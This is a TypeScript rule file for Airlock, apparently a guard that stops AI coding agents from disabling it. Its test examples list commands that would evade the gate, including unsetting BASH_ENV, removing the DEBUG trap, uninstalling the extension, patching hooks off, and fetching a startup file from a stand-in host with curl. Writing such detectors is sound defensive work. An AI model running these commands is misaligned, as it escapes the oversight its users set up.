// Rules for commands that would switch Airlock off from inside the agent it guards: removing its
// hooks or the extension, or rewriting its launcher, its state, an agent's hook settings or the
// editor's settings. Paths are read where the line's `cd`s put them. Critical, so that even
// in a development folder a human decides, and with no editor window open the answer is no.
import { isHomeStartupTail, isShellStartupFile } from '../shell/startupFiles';
import { PROJECT_GUARD_FILES, globMayNameGuardFile, holdsGuardFile, inDirectory, isGuardFile } from '../selfProtection';
import { GATE_VARIABLE } from '../shell/expand';
import { inlineCode, interpreterPrograms, stringLiterals } from '../shell/interpreters';
import { nonFlagArgs, type Args } from './args';
import { joinPath } from '../project/files';
import type { Rule } from './types';

function basename(path: string): string {
  return path.replace(/\/+$/, '').split('/').pop() ?? path;
}

const COPIERS = new Set(['cp', 'mv', 'install', 'ln', 'rsync']);

/**
 * The files the command writes or removes. A copy, move or link writes its destination, which
 * may be a directory: `cp x.json .claude/` writes `.claude/x.json`, so each source's name under
 * it counts too. `mv` also removes its sources.
 */
function written(a: Args): string[] {
  const operands = nonFlagArgs(a.list);
  if (a.program === 'dd') return a.list.filter((x) => x.startsWith('of=')).map((x) => x.slice(3));
  if (!COPIERS.has(a.program)) return operands;
  const target = a.value('-t', '--target-directory');
  const dest = target ?? operands[operands.length - 1] ?? '';
  const sources = target !== undefined ? operands : operands.slice(0, -1);
  const into = sources.map((s) => `${dest.replace(/\/+$/, '')}/${basename(s)}`);
  return [dest, ...into, ...(a.program === 'mv' ? sources : [])];
}

/** For `sed`/`perl`, only an in-place edit writes (`-i`, `-pi`, `--in-place`; not perl's `-Ilib`). */
function writesInPlace(a: Args): boolean {
  // awk rewrites its files only with `-i inplace`; json (trentm's) only with -I.
  if (a.program === 'awk' || a.program === 'gawk') return a.list.some((w, i) => (w === '-i' && a.list[i + 1] === 'inplace') || w === '-iinplace' || w === '--include=inplace');
  if (a.program === 'json') return a.list.includes('-I') || a.list.includes('--in-place');
  if (a.program !== 'sed' && a.program !== 'perl') return true;
  return a.list.some((f) => (/^-[a-zA-Z]*i/.test(f) && !f.startsWith('-I')) || f.startsWith('--in-place'));
}

/** A path the command names, as a guard file, after the line's `cd`s and from where the line runs. */
/** The shell start-up files a command replaces, edits as a script or locks. */
function startupTargets(a: Args): string[] {
  const operands = nonFlagArgs(a.list);
  switch (a.program) {
    case 'cp': case 'mv': case 'ln': case 'install': case 'rsync': return operands.slice(-1).filter(isShellStartupFile);
    case 'curl': case 'wget': return [...a.values('-o', '--output', '-O', '--output-document')].filter(isShellStartupFile);
    case 'dd': return a.list.filter((w) => w.startsWith('of=')).map((w) => w.slice(3)).filter(isShellStartupFile);
    // An editor run as a script (`ex -sc …`, `vim -es …`); opened for a person to edit, it shows what it writes.
    case 'ed': case 'ex': case 'vim': case 'vi': case 'nvim':
      return a.program === 'ed' || a.list.some((w) => /^-[a-zA-Z]*[es]|^-c$|^\+/.test(w)) ? operands.filter(isShellStartupFile) : [];
    default: return operands.filter(isShellStartupFile);
  }
}

function guards(a: Args, path: string): boolean {
  const moved = inDirectory(a.command.dir, path);
  return isGuardFile(moved) || (a.cwd !== undefined && isGuardFile(inDirectory(a.cwd, moved))) || globMayNameGuardFile(path) || globMayNameGuardFile(moved);
}

/** Listings of a batch's files, which hold for its run: each folder listed once. */
const LISTINGS = new WeakMap<object, Map<string, readonly string[] | undefined>>();

function stableListing(files: { list(dir: string): readonly string[] | undefined }, dir: string): readonly string[] | undefined {
  let byDir = LISTINGS.get(files);
  if (!byDir) LISTINGS.set(files, (byDir = new Map<string, readonly string[] | undefined>()));
  if (!byDir.has(dir)) {
    if (byDir.size >= 4096) byDir.clear();
    byDir.set(dir, files.list(dir));
  }
  return byDir.get(dir);
}

/** The first folders of the agents' project settings (`.claude/settings.json`). */
const AGENT_FOLDER_NAMES: ReadonlySet<string> = new Set(PROJECT_GUARD_FILES.map((file) => file.slice(0, file.indexOf('/'))));

/** What the folders that hold guard files hold, below them. */
const FOLDER_TAILS = ['settings.json', 'settings.local.json', 'hooks.json', 'hooks/airlock.json', 'plugins/airlock.js', 'hooks/pretooluse', 'share/airlock/bin/airlock', 'state/airlock/x', 'airlock/bin/airlock'];

/**
 * A folder the command names that holds guard files (`.claude`, `~/.local`), after the line's
 * `cd`s; or, by its listing, a folder with an agent's project settings in it (the project itself).
 */
function holdsGuards(a: Args, path: string): boolean {
  const moved = inDirectory(a.command.dir, path);
  // `mv .cl* /tmp/`: a glob that may name a folder holding guard files.
  if (/[*?[]/.test(path) && FOLDER_TAILS.some((tail) => globMayNameGuardFile(`${path.replace(/\/+$/, '')}/${tail}`))) return true;
  if (holdsGuardFile(moved) || (a.cwd !== undefined && holdsGuardFile(inDirectory(a.cwd, moved)))) return true;
  const project = a.project;
  if (!project || a.cwd === undefined || /[*?[$`]/.test(moved)) return false;
  const dir = joinPath(a.cwd, moved.replace(/^\$\{?HOME\}?(?=\/|$)/, '~'), project.home);
  // One listing of the folder first: most hold no agent folder at all.
  const names = project.files.stable ? stableListing(project.files, dir) : project.files.list(dir);
  if (!names?.some((name) => AGENT_FOLDER_NAMES.has(name))) return false;
  return PROJECT_GUARD_FILES.some((file) => {
    const at = file.lastIndexOf('/');
    return names.includes(file.slice(0, file.indexOf('/'))) && project.files.list(`${dir}/${file.slice(0, at)}`)?.includes(file.slice(at + 1)) === true;
  });
}

/**
 * The folders a command moves away, removes, replaces or locks, whole: `mv .claude x` (its
 * sources), `rm -r ~/.local/share`, `ln -sfn /tmp/e .claude` (the link's name), `chmod -R 000
 * .cursor`, and a copy's destination with each source's name under it (`cp -r /tmp/e/.claude .`).
 */
function replacedFolders(a: Args): string[] {
  const operands = nonFlagArgs(a.list);
  switch (a.program) {
    // The home or the root itself is fs.rm-root's to ask about.
    case 'rm': return a.options.some((o) => /^-[a-zA-Z]*[rRd]/.test(o) || o === '--recursive' || o === '--dir') ? operands.filter((p) => !/^(?:~|\$HOME|\$\{HOME\}|\/)\/?$/.test(p)) : [];
    case 'rmdir': case 'chown': case 'chgrp': case 'chattr': case 'setfacl': case 'trash': case 'trash-put': case 'gio': return operands;
    case 'chmod': return operands.slice(1);
    case 'mv': case 'cp': case 'ln': case 'rsync': case 'install': case 'ditto': {
      const target = a.value('-t', '--target-directory');
      // `pnpm install` reads as the program `install` with nothing to copy.
      if (operands.length === 0) return [];
      const dest = target ?? operands[operands.length - 1] ?? '';
      const sources = target !== undefined ? operands : operands.slice(0, -1);
      const into = sources.map((src) => `${dest.replace(/\/+$/, '')}/${basename(src)}`);
      return [...into, ...(target === undefined ? [dest] : []), ...(a.program === 'mv' ? sources : [])].filter((p) => p !== '');
    }
    default: return [];
  }
}

/** `git mv`/`git rm -r`/`git stash push -- PATH`: a folder moved, removed or stashed away. */
function gitReplacedFolders(a: Args): string[] {
  if (a.sub(['mv'])) return nonFlagArgs(a.positionals.slice(1));
  if (a.sub(['rm'])) return a.options.some((o) => /^-[a-zA-Z]*r/.test(o)) ? nonFlagArgs(a.positionals.slice(1)) : [];
  if (a.sub(['stash'])) {
    const dash = a.list.indexOf('--');
    return dash >= 0 ? a.list.slice(dash + 1) : [];
  }
  return [];
}

/** The files a patch writes: its `+++ b/PATH` and `--- a/PATH` headers, and git's `rename to`/`diff --git` names. */
function patchedFiles(text: string): string[] {
  const names: string[] = [];
  for (const m of text.slice(0, 1024 * 1024).matchAll(/^(?:\+\+\+|---) (?:[ab]\/)?([^\t\n]+)|^diff --git a\/(\S+) b\/(\S+)|^rename (?:to|from) (\S+)/gm)) {
    for (const name of [m[1], m[2], m[3], m[4]]) if (name && name !== '/dev/null') names.push(name.trim());
  }
  return names;
}

/**
 * What a patch the command applies writes: `patch < fix.patch`, `patch -i fix.patch`, `git apply
 * fix.patch`, `git am 0001.patch`. Read from the line's stdin or the project; a patch that cannot
 * be read is for the other rules.
 */
function appliedPatch(a: Args): string[] {
  const files = a.program === 'git'
    ? (a.sub(['apply']) || a.sub(['am']) ? nonFlagArgs(a.positionals.slice(1)) : undefined)
    : [a.value('-i', '--input')].filter((f): f is string => f !== undefined);
  if (files === undefined) return [];
  const texts = [...(a.command.stdin !== undefined ? [a.command.stdin] : [])];
  for (const file of files) {
    const path = a.cwd !== undefined ? joinPath(a.cwd, inDirectory(a.command.dir, file), a.project?.home) : file;
    const read = a.project?.files.read(path);
    if (read?.kind === 'text') texts.push(read.text);
  }
  return texts.flatMap(patchedFiles);
}

/**
 * Where an archive is unpacked: tar's `-C` (or the folder the line is in), unzip's `-d`, 7-Zip's
 * `-o`, cpio's `-D`. Undefined for a command that does not unpack.
 */
function unpackedInto(a: Args): string | undefined {
  switch (a.program) {
    case 'tar': case 'bsdtar': case 'gtar': {
      const first = a.list[0] ?? '';
      const extract = a.has('-x', '--extract', '--get') || (/^[A-Za-z]+$/.test(first) && first.includes('x'));
      return extract ? a.value('-C', '--directory') ?? '.' : undefined;
    }
    case 'unzip':
      return a.has('-l', '-t', '-Z', '-p') ? undefined : a.value('-d') ?? '.';
    case '7z': case '7za': case '7zz': case '7zr':
      return a.list[0] === 'x' || a.list[0] === 'e' ? (a.list.find((w) => w.startsWith('-o'))?.slice(2) || '.') : undefined;
    case 'cpio':
      return a.has('-i', '--extract') ? a.value('-D', '--directory') ?? '.' : undefined;
    case 'pax':
      return a.has('-r') ? '.' : undefined;
    default:
      return undefined;
  }
}

/** Where guard files live, one of each kind: a folder above any of them can receive one. */
const GUARD_SAMPLES = ['~/.local/state/airlock/x', '~/.local/share/airlock/x', '~/.cache/airlock/x', '~/.config/Code/User/settings.json',
  '~/.config/Cursor/User/settings.json', '~/.vscode/extensions/airlock.airlock-0/x', '~/.cursor/extensions/airlock.airlock-0/x', '~/.claude/settings.json',
  '~/.gemini/settings.json', '~/.cursor/hooks.json', '~/.copilot/hooks/x.json', '~/.local/share/code-server/User/settings.json'];

/**
 * Whether unpacking into `dir` can write a guard file: the folder is one (or inside one), or lies
 * above one (home, `~/.local/state`, `~/.config`, `/`), or the archive's own absolute paths decide
 * (`tar -P`, `unzip -:`, `7z -spf`, cpio without `--no-absolute-filenames`).
 */
function unpacksOverGuard(a: Args, dir: string): boolean {
  if (a.has('-P', '--absolute-names') && a.program !== 'unzip' && a.program !== 'cpio') return true;
  if ((a.program === 'unzip' && a.list.includes('-:')) || (a.program.startsWith('7z') && a.list.includes('-spf'))) return true;
  if (a.program === 'cpio' && !a.list.includes('--no-absolute-filenames')) return true;
  const folder = dir.replace(/(?:\/\.)+$/, '').replace(/\/+$/, '') || (dir.startsWith('/') ? '/' : '.');
  // Members an archive may hold there: Airlock's own files, an agent's hook settings.
  if (['x', 'settings.json', 'hooks.json', 'airlock/x'].some((member) => guards(a, `${folder}/${member}`))) return true;
  const home = a.project?.home;
  const here = inDirectory(a.command.dir, folder.replace(/^\$\{?HOME\}?(?=\/|$)/, '~'));
  let where = a.cwd !== undefined ? joinPath(a.cwd, here, home) : here;
  if (home && (where === home || where.startsWith(`${home}/`))) where = `~${where.slice(home.length)}`;
  where = where.replace(/^\/(?:home\/[^/]+|root|Users\/[^/]+)(?=\/|$)/, '~');
  return where === '/' || where === '~' || GUARD_SAMPLES.some((g) => g.startsWith(`${where}/`));
}

/** Interpreter code that writes, moves or deletes files (Python, Node, Ruby, Perl, PHP). */
const FILE_WRITE = /\bopen\s*\([^)]*,\s*['"][^'"]*[wax+]|\b(?:write|append)File(?:Sync)?\s*\(|\bcreateWriteStream\s*\(|\b(?:rmSync|unlinkSync|renameSync|copyFileSync|cpSync|rm|unlink|rename|copyFile)\s*\(|\.write_(?:text|bytes)\s*\(|\b(?:os|shutil)\.(?:remove|unlink|rename|replace|move|copy\w*)\s*\(|\bFile\.(?:write|open|delete|rename)\b|\bIO\.write\b|\bFileUtils\.\w+|\bfile_put_contents\s*\(|\bunlink\b|\brename\s+['"]|\b(?:os\.)?(?:mkfifo|mknod|makedirs)\s*\(|\bmkdirSync\s*\(/;

/** Editors' command-line launchers, which remove or switch off extensions. */
const EDITOR_CLIS = ['code', 'code-insiders', 'codium', 'cursor', 'windsurf', 'code-server', 'code-oss', 'vscodium', 'positron', 'kiro', 'trae', 'void'];

/**
 * `--uninstall-extension airlock.airlock`, `--disable-extension=…airlock`, every extension off,
 * another extensions folder (`--extensions-dir`, where Airlock is not), or a VSIX installed over
 * it with `--force` (a file of the agent's making takes Airlock's place).
 */
function removesAirlock(a: Args): boolean {
  return a.list.some((w, i) => {
    if (w === '--disable-extensions' || w === '--extensions-dir' || w.startsWith('--extensions-dir=')) return true;
    const installed = /^--install-extension(?:=(.*))?$/.exec(w);
    if (installed && a.list.includes('--force') && /\.vsix$/i.test(installed[1] ?? a.list[i + 1] ?? '')) return true;
    const m = /^--(?:uninstall|disable)-extension(?:=(.*))?$/.exec(w);
    const id = m ? (m[1] ?? a.list[i + 1] ?? '') : undefined;
    return id !== undefined && /(?:^|\.)airlock(?:$|@)/i.test(id);
  });
}

/** `git checkout/restore/rm/mv … <file>` replaces or removes a tracked file. */
function gitWritten(a: Args): string[] {
  if (!a.sub(['checkout', 'restore', 'rm', 'mv'])) return [];
  return nonFlagArgs(a.positionals.slice(1));
}

/** The gate's variables a command removes: `unset X`, `env -u X` / `--unset=X` (`export -n X` is the guards' to stop). */
function unsetGateVariables(a: Args): boolean {
  const list = a.list;
  if (a.program === 'env') {
    // `env -i bash x.sh`: a shell started with an emptied environment runs without the guard.
    const emptied = a.options.some((w) => w === '--ignore-environment' || /^-[a-zA-Z0-9]*i/.test(w)) && list.some((w) => /^(?:\S*\/)?(?:bash|sh|zsh|dash|ksh|mksh|fish)$/.test(w));
    return emptied || list.some((w, i) => (w === '-u' || w === '--unset') ? GATE_VARIABLE.test(list[i + 1] ?? '')
      : /^(?:-u|--unset=)/.test(w) && GATE_VARIABLE.test(w.replace(/^(?:-u|--unset=)/, '')));
  }
  return list.some((w) => GATE_VARIABLE.test(w));
}

/**
 * What switches the bash guard's DEBUG trap off: the trap removed or replaced, extdebug turned
 * off, a builtin it runs disabled or replaced. The guard stops these spelled
 * plainly; spelled so only the engine reads them (`$'\\x74rap' - DEBUG`) they reach this rule.
 */
function switchesGuardOff(a: Args): boolean {
  const list = a.list;
  switch (a.program) {
    // RETURN and CHLD handlers run inside the gate's own check (as its functions return, while it
    // waits for an answer), where nothing judges them.
    case 'trap': return list[0] !== '-p' && list[0] !== '-l' && list.slice(1).some((w) => /^(?:SIG)?(?:DEBUG|RETURN|CHLD|CLD)$/i.test(w) || w === '17');
    case 'shopt': return list.includes('-u') && list.includes('extdebug');
    case 'enable': return list.some((w) => /^-[a-z]*[nfd]/.test(w));
    default: return false;
  }
}

/** Shells that read neither BASH_ENV, PROMPT_COMMAND nor ZDOTDIR: started interactively, they take commands the gate never sees. */
const UNGUARDED_SHELLS = ['sh', 'dash', 'ksh', 'ksh93', 'mksh', 'pdksh', 'ash', 'yash', 'posh', 'csh', 'tcsh', 'fish', 'nu', 'xonsh', 'elvish', 'rc', 'es', 'pwsh', 'zsh'];

/**
 * A shell started with no script, no `-c` and nothing on its stdin: it reads the terminal, and
 * what is typed into it next runs past the gate. zsh reads the gate's ZDOTDIR unless told not to.
 */
function startsUnguardedShell(a: Args): boolean {
  // A shell in a container or on another host (`docker exec -it api sh`) is no shell of this machine's gate.
  if (a.command.stdin !== undefined || a.command.stdinUnknown || a.command.target !== undefined) return false;
  if (a.program === 'zsh' && !a.options.some((o) => /^-[a-zA-Z]*[fd]/.test(o) || o === '--no-rcs' || o === '--no-globalrcs' || o === '+o')) return false;
  if (a.options.some((o) => /^-[a-zA-Z]*[cn]/.test(o) || o === '--command' || o === '-s' || o === '--version' || o === '--help' || o === '-C')) return false;
  return nonFlagArgs(a.list).length === 0;
}

export const guardRules: readonly Rule[] = [
  {
    id: 'airlock.unguarded-shell',
    programs: UNGUARDED_SHELLS,
    category: 'shell',
    severity: 'high',
    summary: 'Starts an interactive shell that Airlock\'s terminal gate does not load into: what is typed into it next runs unchecked',
    hint: 'Run the command in this shell, or give the other shell the script to run (`sh script.sh`, `dash -c \'…\'`)',
    match: startsUnguardedShell,
    targets: () => [],
    examples: {
      match: ['dash', 'exec dash', 'exec /bin/sh', 'sh -i', 'ksh', 'fish', 'zsh -f', 'exec zsh --no-rcs', 'busybox sh'],
      noMatch: ['sh build.sh', "dash -c 'ls'", 'dash -n x.sh', 'zsh', 'fish --version', "echo 'ls' | sh", 'sh -s < setup.sh', 'docker exec -it api sh', 'kubectl exec -it api-0 -- sh'],
    },
  },
  {
    id: 'airlock.guard-file-interpreter-write',
    programs: interpreterPrograms(),
    category: 'shell',
    severity: 'critical',
    summary: 'Interpreter code writes or removes a file that keeps Airlock\'s guard in place (its launcher, its state, an agent\'s hook settings or the editor\'s settings)',
    hint: 'Ask the user to change agent hook settings or Airlock\'s settings themselves',
    match: (a) => {
      const code = inlineCode(a.program, a.command.argv, a.command.stdin)?.code;
      // A shell start-up file too: every new shell runs what the code writes there (`unset BASH_ENV`).
      const home = code !== undefined && /homedir|expanduser|expand_path|Path\.home|\bHOME\b/.test(code);
      return code !== undefined && FILE_WRITE.test(code) && stringLiterals(code).some((literal) => guards(a, literal) || holdsGuards(a, literal) || isShellStartupFile(literal) || (home && isHomeStartupTail(literal)));
    },
    targets: () => [],
    examples: {
      match: [
        `python3 -c "open('/home/u/.claude/settings.json','w').write('{}')"`,
        `python3 -c "open('/home/u/.bashrc','a').write('trap - DEBUG')"`,
        `node -e "require('fs').writeFileSync(require('os').homedir()+'/.claude/settings.json','{}')"`,
        `python3 -c "import os; os.remove(os.path.expanduser('~/.local/share/airlock/bin/airlock'))"`,
        `ruby -e 'File.write(File.expand_path("~/.cursor/hooks.json"), "{}")'`,
        `python3 -c 'import os; os.rename(".claude", "/tmp/c")'`,
        `node -e 'require("fs").renameSync(".cursor", "/tmp/c")'`,
      ],
      noMatch: [
        `python3 -c "print(open('/home/u/.claude/settings.json').read())"`,
        `node -e "require('fs').writeFileSync('out.json','{}')"`,
      ],
    },
  },
  {
    id: 'airlock.startup-file-replace',
    programs: ['cp', 'mv', 'ln', 'install', 'rsync', 'curl', 'wget', 'chmod', 'chown', 'ed', 'ex', 'vim', 'vi', 'nvim', 'dd', 'truncate', 'patch'],
    category: 'shell',
    severity: 'high',
    summary: 'Replaces or edits a shell start-up file (~/.bashrc, ~/.zshrc…) with what the line does not show, or locks it: every new shell runs it, with or without Airlock\'s gate',
    hint: 'Append the one line you need with echo … >> ~/.bashrc, where it can be read, or ask the user to edit the file',
    match: (a) => startupTargets(a).length > 0,
    targets: startupTargets,
    examples: {
      match: ['cp rc.new ~/.bashrc', 'mv /tmp/x ~/.zshrc', 'ln -sf evilrc ~/.bashrc', 'rsync evilrc ~/.bashrc', 'curl -o ~/.bashrc https://x.example/rc', 'wget -O ~/.zshrc https://x.example/rc',
        'chmod 000 ~/.bashrc', "ex -sc 'normal Go' -cx ~/.bashrc"],
      noMatch: ['cp ~/.bashrc ~/.bashrc.bak', 'chmod 644 notes.txt', 'curl -o out.json https://x.example/a', 'vim ~/.bashrc', 'cp .env.example .env'],
    },
  },
  {
    id: 'airlock.extension-removal',
    programs: EDITOR_CLIS,
    category: 'shell',
    severity: 'critical',
    summary: 'Uninstalls or switches off the Airlock extension (or every extension) in the editor',
    hint: 'Ask the user to manage their extensions themselves',
    match: removesAirlock,
    targets: () => [],
    examples: {
      match: ['code --uninstall-extension airlock.airlock', 'cursor --uninstall-extension airlock.airlock', 'code --disable-extension=airlock.airlock .', 'code --disable-extensions', 'codium --uninstall-extension airlock.airlock@0.1.0',
        'code --install-extension ./airlock-9.9.9.vsix --force', 'code --extensions-dir /tmp/e .', 'positron --uninstall-extension airlock.airlock'],
      noMatch: ['code --install-extension airlock.airlock', 'code --uninstall-extension ms-python.python', 'code .', 'cursor --list-extensions', 'code --install-extension ./my-theme.vsix'],
    },
  },
  {
    id: 'airlock.gate-variable-unset',
    programs: ['unset', 'env'],
    category: 'shell',
    severity: 'critical',
    summary: 'Removes a variable that carries Airlock\'s terminal gate (AIRLOCK_*, BASH_ENV, ZDOTDIR): the commands after it could run unchecked',
    hint: 'Leave Airlock\'s variables as the editor set them; ask the user to change Airlock\'s settings instead',
    match: unsetGateVariables,
    targets: () => [],
    examples: {
      match: ['unset BASH_ENV', 'unset -v AIRLOCK_NODE AIRLOCK_CLI', 'unset PROMPT_COMMAND', 'env -i bash cleanup.sh', 'env -i PATH=/usr/bin sh -c "rm -rf x"', 'env -u AIRLOCK_IPC bash x.sh', 'env --unset=BASH_ENV bash x.sh', 'env -uZDOTDIR zsh'],
      noMatch: ['unset FOO', 'unset BASH_ENV_FILE', 'env -u HOME ls', 'env BASH_ENV_X=1 ls', 'env -i PATH=/usr/bin make'],
    },
  },
  {
    id: 'airlock.gate-trap-off',
    programs: ['trap', 'shopt', 'enable'],
    category: 'shell',
    severity: 'critical',
    summary: 'Switches off the terminal gate\'s check before each command (its DEBUG trap, extdebug, or a builtin it runs): the commands after it could run unchecked',
    hint: 'Leave the shell\'s DEBUG trap and options as Airlock set them; ask the user to change Airlock\'s settings instead',
    match: switchesGuardOff,
    targets: () => [],
    examples: {
      match: ['trap - DEBUG', "trap '' DEBUG", 'trap "echo hi" debug', 'trap "$x" RETURN', "trap 'kill 0' CHLD", 'shopt -u extdebug', 'enable -n shopt', 'enable -f ./lib.so printf', 'enable -d printf'],
      noMatch: ["trap 'rm -f \"$tmp\"' EXIT", 'trap - INT TERM', "trap 'echo RETURN' EXIT", 'trap -p RETURN', 'shopt -s nullglob', 'shopt -u nullglob', 'enable', 'enable -p'],
    },
  },
  {
    id: 'airlock.uninstall',
    programs: ['airlock'],
    category: 'shell',
    severity: 'critical',
    summary: 'Removes Airlock\'s hooks: the guard that stops destructive agent commands',
    hint: 'Ask the user to run `airlock uninstall` themselves if they want Airlock gone',
    match: (a) => a.positionals[0] === 'uninstall',
    targets: () => [],
    examples: { match: ['airlock uninstall', 'npx airlock uninstall --agent all --scope user'], noMatch: ['airlock doctor', 'airlock check -- ls', 'airlock install --agent cursor'] },
  },
  {
    id: 'airlock.guard-file-redirect',
    programs: ['>', '>>'],
    category: 'shell',
    severity: 'critical',
    summary: 'Overwrites or appends to a file that keeps Airlock\'s guard in place (its launcher, its state or an agent\'s hook settings)',
    hint: 'Ask the user to change agent hook settings themselves',
    match: (a) => a.list.some((p) => guards(a, p)),
    targets: () => [],
    examples: {
      match: ["echo 'exit 0' > ~/.local/share/airlock/bin/airlock", 'echo {} > .claude/settings.json', 'cat x >| $HOME/.cursor/hooks.json',
        "cd ~/.claude && printf '{}' > settings.json", "cd ~/.local/share/airlock/bin && printf 'exit 0' > airlock", 'echo {} > $HOME/.claude/x/../settings.json',
        'cat mine.json > ~/.config/Code/User/settings.json', 'cd ~/.config/Cursor/User; cat x > settings.json',
        "cd -- ~/.claude && printf '{}' > settings.json", "pushd ~/.claude && printf '{}' > settings.json", 'cd "$HOME/.claude" && printf {} > settings.json',
        "printf 'hooks = false' >> ~/.codex/config.toml", 'echo , >> .cursor/hooks.json'],
      noMatch: ['echo hi > notes.txt', 'echo hi >> notes.txt', 'echo model >> ~/.codex/AGENTS.md', 'echo {} > .claude/commands.json', 'cd src && echo {} > settings.json', 'cd ~/.claude/x/.. && echo hi > notes.txt'],
    },
  },
  {
    id: 'airlock.guard-file-change',
    // Editors (`ed`, `ex`, `vim -es`, `sd`) rewrite the files they are given.
    programs: ['rm', 'mv', 'cp', 'tee', 'truncate', 'chmod', 'unlink', 'ln', 'install', 'sed', 'perl', 'shred', 'rsync', 'dd', 'sponge', 'mkfifo', 'mknod',
      'ed', 'ex', 'vim', 'vi', 'nvim', 'nano', 'emacs', 'sd', 'awk', 'gawk', 'json'],
    category: 'shell',
    severity: 'critical',
    summary: 'Deletes or rewrites a file that keeps Airlock\'s guard in place (its launcher, its state or an agent\'s hook settings)',
    hint: 'Ask the user to change agent hook settings themselves',
    match: (a) => writesInPlace(a) && written(a).some((p) => guards(a, p)),
    targets: () => [],
    examples: {
      match: ['rm -rf ~/.local/share/airlock', 'mv .cursor/hooks.json /tmp/', "sed -i 's/airlock/true/' .claude/settings.json", 'cp /dev/null .gemini/settings.json',
        'rm .github/hooks/airlock.json', 'cp settings.json .claude/', 'mv x.json .claude/settings.json', 'cp -t .claude/ settings.json', 'rsync x.json .Claude/Settings.json',
        'rm .claude/./settings.json', 'dd if=/dev/zero of=.cursor/hooks.json', 'jq . x.json | sponge .gemini/settings.json',
        "sed -i 's/click/click-critical/' ~/.config/Code/User/settings.json", 'jq . s.json > t && mv t ~/.config/Code/User/settings.json', 'cd ~/.claude && rm settings.json',
        'cp forged.v8 ~/.cache/airlock/cli-v20.20.2-1400000-1733400000000.v8', 'rm -rf ~/.vscode/extensions/airlock.airlock-0.1.0/dist',
        // A FIFO where Airlock's lock or queue files go (a folder there is moved aside by the log itself).
        'mkfifo ~/.local/state/airlock/audit.lock', 'mknod ~/.local/state/airlock/audit-queue/0.json p',
        'ed -s .claude/settings.json', "vim -es -c '%d' -c wq .claude/settings.json", 'awk -i inplace 1 .claude/settings.json', 'sd airlock true .claude/settings.json'],
      noMatch: ["sed 's/a/b/' .claude/settings.json", 'rm notes.txt', 'cp .claude/settings.json backup/', 'perl -Ilib x.pl .claude/settings.json', 'cp notes.md .claude/',
        'mkfifo /tmp/pipe', "awk '{print}' .claude/settings.json", 'vim src/index.ts'],
    },
  },
  {
    id: 'airlock.guard-file-unpack',
    programs: ['tar', 'bsdtar', 'gtar', 'unzip', '7z', '7za', '7zz', '7zr', 'cpio', 'pax'],
    category: 'shell',
    severity: 'critical',
    summary: 'Unpacks an archive over the files that keep Airlock\'s guard in place (its state, its launcher or an agent\'s hook settings)',
    hint: 'Unpack into a folder of its own, then look at what it holds',
    match: (a) => {
      const dir = unpackedInto(a);
      return dir !== undefined && unpacksOverGuard(a, dir);
    },
    targets: () => [],
    examples: {
      match: ['tar xf /tmp/z.tar -C ~/.local/state', 'cd ~/.local/state && tar xf /tmp/z.tar', 'tar -xzf z.tgz --directory ~/.local/state/airlock', 'unzip -o /tmp/z.zip -d ~/.local/state/airlock',
        'unzip z.zip -d ~/.claude', 'tar xf z.tar -C ~', '7z x z.7z -o$HOME/.local/share', 'cd ~ && cpio -idm < z.cpio',
        'tar -xPf z.tar', 'tar xf z.tar --absolute-names', 'unzip -: z.zip -d out', '7z x -spf z.7z', 'cpio -idm < z.cpio', 'tar xf z.tar -C /',
        'tar xf z.tar -C /home/dev', 'tar xf z.tar -C ~/.config', 'unzip -o z.zip -d ~/.vscode/extensions', 'tar xf z.tar -C ~/.local/share/..'],
      noMatch: ['tar xf release.tar -C /tmp/out', 'tar czf backup.tgz ~/.local/state/airlock', 'unzip -l /tmp/z.zip', 'unzip z.zip -d build', 'tar tf z.tar -C ~', '7z l z.7z',
        'cpio -idm --no-absolute-filenames < z.cpio', 'tar xzf node.tgz -C vendor'],
    },
  },
  {
    id: 'airlock.guard-file-git',
    programs: ['git'],
    category: 'shell',
    severity: 'critical',
    summary: 'Replaces or removes a file that keeps Airlock\'s guard in place (an agent\'s hook settings) through git',
    hint: 'Ask the user to change agent hook settings themselves',
    match: (a) => gitWritten(a).some((p) => guards(a, p)),
    targets: () => [],
    examples: {
      match: ['git checkout .claude/settings.json', 'git checkout HEAD~3 -- .cursor/hooks.json', 'git rm .github/hooks/airlock.json', 'git restore .gemini/settings.json'],
      noMatch: ['git checkout main', 'git add .claude/settings.json', 'git rm src/old.ts', 'git diff .claude/settings.json'],
    },
  },
  {
    id: 'airlock.guard-folder-change',
    programs: ['rm', 'rmdir', 'mv', 'cp', 'ln', 'rsync', 'install', 'ditto', 'chmod', 'chown', 'chgrp', 'chattr', 'setfacl', 'trash', 'trash-put', 'git'],
    category: 'shell',
    severity: 'critical',
    summary: 'Moves, removes, replaces or locks a folder that holds the files keeping Airlock\'s guard in place (an agent\'s hook settings, Airlock\'s launcher or state)',
    hint: 'Ask the user to change agent hook settings themselves',
    match: (a) => (a.program === 'git' ? gitReplacedFolders(a) : replacedFolders(a)).some((p) => holdsGuards(a, p)),
    targets: () => [],
    examples: {
      match: ['mv .claude .claude.bak', 'mv ~/.claude /tmp/', 'mv -t /tmp .cursor', 'rm -rf ~/.local/share', 'mv ~/.local /tmp/l', 'git mv .claude claude-old', 'git rm -r .github/hooks',
        'ln -sfn /tmp/evil .claude', 'chmod -R 000 .gemini', 'cp -r /tmp/evil/.claude .', 'cp -a /tmp/evil/.gemini ~/', 'mv /tmp/evil .claude', 'git stash push -- .claude',
        'rm -r .github', 'rsync -a /tmp/evil/.cursor ./'],
      noMatch: ['mv src lib', 'rm -rf node_modules', 'cp -r .claude/commands /tmp/c', 'chmod +x scripts/run.sh', 'ln -s ../shared shared', 'git mv src/a.ts src/b.ts', 'rm .claude/commands/x.md',
        'cp -r src/ dist/', 'git stash push -- src', 'pnpm install', 'yarn install --frozen-lockfile'],
    },
  },
  {
    id: 'airlock.guard-file-patch',
    programs: ['patch', 'git'],
    category: 'shell',
    severity: 'critical',
    summary: 'Applies a patch that rewrites a file keeping Airlock\'s guard in place (an agent\'s hook settings, the editor\'s settings)',
    hint: 'Ask the user to change agent hook settings themselves',
    match: (a) => appliedPatch(a).some((p) => guards(a, p) || holdsGuards(a, p)),
    targets: () => [],
    examples: {
      match: ["patch -p1 <<'EOF'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{\"disableAllHooks\":true}\nEOF"],
      noMatch: ["patch -p1 <<'EOF'\n--- a/src/x.ts\n+++ b/src/x.ts\n@@ -1 +1 @@\n-a\n+b\nEOF", 'git apply --check fix.patch'],
    },
  },
];
